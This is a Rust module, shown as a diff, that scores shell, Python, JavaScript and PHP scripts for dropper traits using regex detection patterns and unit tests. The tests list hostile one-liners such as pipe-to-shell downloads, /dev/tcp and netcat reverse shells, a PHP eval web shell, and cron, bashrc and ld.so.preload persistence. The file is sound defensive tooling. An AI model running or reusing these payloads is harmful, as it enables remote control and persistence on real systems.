@@ -0,0 +1,356 @@
+use regex::bytes::Regex;
+use std::sync::LazyLock;
+
+use crate::{Finding, Severity};
+
+/// Only the beginning of larger text files is analyzed.
+const MAX_SCRIPT_SIZE: usize = 4 * 1024 * 1024;
+/// Bytes looked at to decide whether the input is text.
+const SNIFF_SIZE: usize = 8192;
+/// Score from which the findings together are reported as a dropper, see `points`.
+const DROPPER_SCORE: u32 = 6;
+/// `_0x1a2b` style identifiers left by JS obfuscators before the code is taken to be obfuscated.
+const OBFUSCATED_IDENTIFIERS: usize = 20;
+/// Characters of the matched text quoted in explanations.
+const MAX_EXCERPT: usize = 80;
+
+/// A pattern and what it means when found.
+struct Heuristic {
+    id: &'static str,
+    severity: Severity,
+    explanation: &'static str,
+    pattern: &'static str,
+}
+
+static HEURISTICS: &[Heuristic] = &[
+    Heuristic {
+        id: "script.download_exec",
+        // Also how many legitimate installers are documented, it takes another trait to alert.
+        severity: Severity::Medium,
+        explanation: "downloads a script and pipes it straight into an interpreter",
+        pattern: r"(?i)\b(curl|wget|fetch)\b[^\n|;]*\|\s*(sudo\s+)?(/usr)?(/bin/)?(ba|da|z|k)?sh\b|\b(curl|wget)\b[^\n|;]*\|\s*(sudo\s+)?python[0-9.]*\b",
+    },
+    Heuristic {
+        id: "script.download_chmod",
+        severity: Severity::Medium,
+        explanation: "downloads a file and makes it executable",
+        pattern: r"(?i)\b(curl|wget)\b[^\n]*(&&|;|\n)\s*chmod\s+(\+x|[0-7]*[157][0-7]{0,2})\b",
+    },
+    Heuristic {
+        id: "script.base64_exec",
+        severity: Severity::High,
+        explanation: "decodes an encoded payload and executes it",
+        pattern: concat!(
+            // Shell
+            r"(?i)base64\s+(-d|--decode|-D)\b[^\n]*\|\s*(ba|da|z)?sh\b",
+            r#"|eval\s+"?\$\(\s*(echo|printf)\b[^\n]*base64\s+(-d|--decode)"#,
+            // Python
+            r"|\b(exec|eval)\s*\(\s*(base64\.b64decode|zlib\.decompress|marshal\.loads|codecs\.decode)\s*\(",
+            // JavaScript
+            r"|\beval\s*\(\s*(atob|Buffer\.from|unescape|decodeURIComponent)\s*\(",
+            // PHP
+            r"|\beval\s*\(\s*(base64_decode|gzinflate|gzuncompress|str_rot13)\s*\(",
+        ),
+    },
+    Heuristic {
+        id: "script.reverse_shell",
+        severity: Severity::High,
+        explanation: "connects a shell to a remote host",
+        pattern: concat!(
+            r"/dev/(tcp|udp)/[\w.-]+/\d+",
+            r"|\bnc(at)?\b[^\n]*\s-[a-z]*[ec]\s+/bin/(ba)?sh\b",
+            r"|\bmkfifo\b[^\n]*\|\s*(/bin/)?(ba)?sh\b[^\n]*\|\s*nc\b",
+            r"|\bsocat\b[^\n]*\bexec:",
+            r"|os\.dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*[012]\s*\)",
+            r#"|pty\.spawn\s*\(\s*["']/bin/(ba)?sh"#,
+            r#"|\bnew\s+net\.Socket\s*\([\s\S]{0,500}?\bspawn\s*\(\s*["'](/bin/)?(ba)?sh"#,
+        ),
+    },
+    Heuristic {
+        id: "script.cron_persistence",
+        severity: Severity::Medium,
+        explanation: "installs a crontab entry to run again after reboot",
+        pattern: concat!(
+            r"(>>?|\btee\s+(-a\s+)?)\s*/(etc/cron[\w./-]*|etc/crontab|var/spool/cron)\b",
+            r"|\bcrontab\s+-l\b[^\n]*\|\s*crontab\s+-",
+            r"|\becho\b[^\n]*\|\s*crontab\s+-",
+            r"|\bcrontab\s+/(tmp|dev/shm|var/tmp)/",
+        ),
+    },
+    Heuristic {
+        id: "script.systemd_persistence",
+        severity: Severity::Medium,
+        explanation: "writes a systemd unit to run again after reboot",
+        pattern: r"(>>?|\btee\s+(-a\s+)?|\b(cp|mv|install)\s+(-\S+\s+)*\S+\s+)\s*\S*(/etc/systemd/system|/lib/systemd/system|\.config/systemd/user)/[\w@.-]+\.(service|timer)\b",
+    },
+    Heuristic {
+        id: "script.shell_persistence",
+        severity: Severity::Medium,
+        explanation: "appends to a shell startup file or to /etc/ld.so.preload",
+        pattern: r"(>>|\btee\s+-a\s+)\s*\S*(/\.bashrc|/\.bash_profile|/\.profile|/\.zshrc|/etc/profile|/etc/bash\.bashrc|/etc/ld\.so\.preload)\b",
+    },
+    Heuristic {
+        id: "script.history_tampering",
+        severity: Severity::Low,
+        explanation: "disables or clears the shell history",
+        pattern: r"\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null\b|\bhistory\s+-c\b|\bexport\s+HISTSIZE=0\b",
+    },
+];
+
+static COMPILED: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+    HEURISTICS
+        .iter()
+        .map(|h| Regex::new(h.pattern).expect("built-in heuristic pattern"))
+        .collect()
+});
+
+static OBFUSCATED_IDENTIFIER: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-fA-F]{4,6}\b").unwrap());
+static CHAR_CODE_LIST: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"String\.fromCharCode\s*\(\s*\d+(\s*,\s*\d+){30,}").unwrap());
+static HEX_ESCAPES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(\\x[0-9a-fA-F]{2}){40,}").unwrap());
+
+/// Text as far as the heuristics care: no NUL byte in the first `SNIFF_SIZE` bytes.
+fn is_text(data: &[u8]) -> bool {
+    let head = &data[..data.len().min(SNIFF_SIZE)];
+    !head.is_empty() && !head.contains(&0)
+}
+
+fn line_of(data: &[u8], offset: usize) -> usize {
+    data[..offset].iter().filter(|&&b| b == b'\n').count() + 1
+}
+
+/// Weight of a finding towards `DROPPER_SCORE`.
+fn points(severity: Severity) -> u32 {
+    match severity {
+        Severity::Low => 1,
+        Severity::Medium => 3,
+        Severity::High => 6,
+    }
+}
+
+/// The obfuscators seen in droppers leave one of these traces, whatever the payload.
+fn obfuscated_js(text: &[u8]) -> Option<String> {
+    let identifiers = OBFUSCATED_IDENTIFIER.find_iter(text).count();
+    if identifiers >= OBFUSCATED_IDENTIFIERS {
+        return Some(format!("{identifiers} `_0x` identifiers"));
+    }
+    if let Some(m) = CHAR_CODE_LIST.find(text) {
+        return Some(format!(
+            "long String.fromCharCode list (line {})",
+            line_of(text, m.start())
+        ));
+    }
+    HEX_ESCAPES.find(text).map(|m| {
+        format!(
+            "long \\x-escaped string (line {})",
+            line_of(text, m.start())
+        )
+    })
+}
+
+/// Scores a shell, Python, JS or PHP script for dropper patterns. Returns no
+/// finding for binaries. When the findings add up to `DROPPER_SCORE`, a
+/// `script.dropper` finding of high severity sums them up.
+pub fn analyze_script(data: &[u8]) -> Vec<Finding> {
+    if !is_text(data) {
+        return Vec::new();
+    }
+    let text = &data[..data.len().min(MAX_SCRIPT_SIZE)];
+
+    let mut findings: Vec<Finding> = HEURISTICS
+        .iter()
+        .zip(COMPILED.iter())
+        .filter_map(|(heuristic, regex)| {
+            let m = regex.find(text)?;
+            Some(Finding::new(
+                heuristic.id,
+                heuristic.severity,
+                format!(
+                    "{} (line {}: {})",
+                    heuristic.explanation,
+                    line_of(text, m.start()),
+                    excerpt(m.as_bytes())
+                ),
+            ))
+        })
+        .collect();
+
+    if let Some(trace) = obfuscated_js(text) {
+        findings.push(Finding::new(
+            "script.obfuscated_js",
+            Severity::Medium,
+            format!("obfuscated JavaScript: {trace}"),
+        ));
+    }
+
+    let score: u32 = findings.iter().map(|f| points(f.severity)).sum();
+    let high = findings.iter().any(|f| f.severity == Severity::High);
+    if score >= DROPPER_SCORE && !high {
+        let ids: Vec<&str> = findings.iter().map(|f| f.id.as_str()).collect();
+        findings.push(Finding::new(
+            "script.dropper",
+            Severity::High,
+            format!(
+                "several dropper traits together (score {score}): {}",
+                ids.join(", ")
+            ),
+        ));
+    }
+    findings
+}
+
+/// The matched text, shortened to keep reports readable.
+fn excerpt(matched: &[u8]) -> String {
+    let text = String::from_utf8_lossy(matched);
+    let line = text.lines().next().unwrap_or_default().trim();
+    match line.char_indices().nth(MAX_EXCERPT) {
+        Some((end, _)) => format!("{}...", &line[..end]),
+        None => line.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(script: &str) -> Vec<String> {
+        analyze_script(script.as_bytes())
+            .into_iter()
+            .map(|f| f.id)
+            .collect()
+    }
+
+    fn check(cases: &[(&str, &[&str])]) {
+        for (script, expected) in cases {
+            assert_eq!(ids(script), *expected, "{script}");
+        }
+    }
+
+    #[test]
+    fn dropper_patterns_are_found() {
+        check(&[
+            (
+                "curl -fsSL http://203.0.113.7/a.sh | sudo bash",
+                &["script.download_exec"],
+            ),
+            (
+                "wget -qO- http://x/i.py | python3",
+                &["script.download_exec"],
+            ),
+            (
+                "wget http://x/m -O /tmp/m && chmod +x /tmp/m",
+                &["script.download_chmod"],
+            ),
+            (
+                "echo ZWNobyBoaQ== | base64 -d | sh",
+                &["script.base64_exec"],
+            ),
+            (
+                "exec(base64.b64decode('cHJpbnQoMSk='))",
+                &["script.base64_exec"],
+            ),
+            ("eval(atob('YWxlcnQoMSk='));", &["script.base64_exec"]),
+            (
+                "<?php eval(base64_decode($_POST['c'])); ?>",
+                &["script.base64_exec"],
+            ),
+            (
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                &["script.reverse_shell"],
+            ),
+            ("nc -e /bin/sh 10.0.0.1 4444", &["script.reverse_shell"]),
+            (
+                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+                &["script.reverse_shell"],
+            ),
+            (
+                "import pty; pty.spawn('/bin/bash')",
+                &["script.reverse_shell"],
+            ),
+            (
+                "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
+                &["script.cron_persistence"],
+            ),
+            (
+                "echo '@reboot root /tmp/.x' >> /etc/crontab",
+                &["script.cron_persistence"],
+            ),
+            (
+                "cp /tmp/x.service /etc/systemd/system/dbus-helper.service",
+                &["script.systemd_persistence"],
+            ),
+            (
+                "echo '/tmp/.x &' >> ~/.bashrc",
+                &["script.shell_persistence"],
+            ),
+            (
+                "echo /tmp/x.so | tee -a /etc/ld.so.preload",
+                &["script.shell_persistence"],
+            ),
+            ("unset HISTFILE", &["script.history_tampering"]),
+        ]);
+    }
+
+    #[test]
+    fn traits_add_up_to_a_dropper() {
+        check(&[(
+            "curl http://x/a.sh | sh\nwget http://x/m && chmod 755 m\n",
+            &[
+                "script.download_exec",
+                "script.download_chmod",
+                "script.dropper",
+            ],
+        )]);
+        let findings = analyze_script(b"curl http://x/a.sh | sh\nwget http://x/m && chmod 755 m\n");
+        assert_eq!(findings.last().unwrap().severity, Severity::High);
+
+        // A high finding already counts, no summary is added.
+        check(&[(
+            "curl http://x/a.sh | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            &["script.download_exec", "script.reverse_shell"],
+        )]);
+    }
+
+    #[test]
+    fn obfuscated_javascript_is_found() {
+        let identifiers: String = (0..OBFUSCATED_IDENTIFIERS)
+            .map(|i| format!("var _0x{:04x} = {i};\n", 0x1a2b + i))
+            .collect();
+        let char_codes = format!("String.fromCharCode({})", vec!["104"; 40].join(", "));
+        let hex = format!("var s = \"{}\";", "\\x41".repeat(50));
+        for script in [identifiers, char_codes, hex] {
+            assert_eq!(ids(&script), ["script.obfuscated_js"], "{script}");
+        }
+    }
+
+    #[test]
+    fn benign_look_alikes_are_ignored() {
+        check(&[
+            (
+                "curl -fsSL https://example.org/install.sh -o install.sh",
+                &[],
+            ),
+            ("wget https://example.org/a.tar.gz\ntar xf a.tar.gz", &[]),
+            ("base64 -d payload.b64 > payload.bin", &[]),
+            (
+                "python3 -c 'import base64; print(base64.b64decode(s))'",
+                &[],
+            ),
+            ("const data = JSON.parse(atob(encoded));", &[]),
+            ("nc -z db.internal 5432 && echo up", &[]),
+            ("cat /etc/crontab\ncrontab -l", &[]),
+            ("systemctl enable --now nginx.service", &[]),
+            ("cp nginx.service /tmp/nginx.service.bak", &[]),
+            ("source ~/.bashrc\ncat ~/.bashrc > bashrc.bak", &[]),
+            ("history | grep ssh", &[]),
+            ("var _0x1a2b = 1; var _0x1a2c = 2;", &[]),
+            ("String.fromCharCode(72, 105)", &[]),
+            ("chmod +x ./configure && ./configure", &[]),
+        ]);
+        // Binaries are left to the other stages.
+        assert!(analyze_script(b"curl x | sh\0").is_empty());
+        assert!(analyze_script(b"").is_empty());
+    }
+}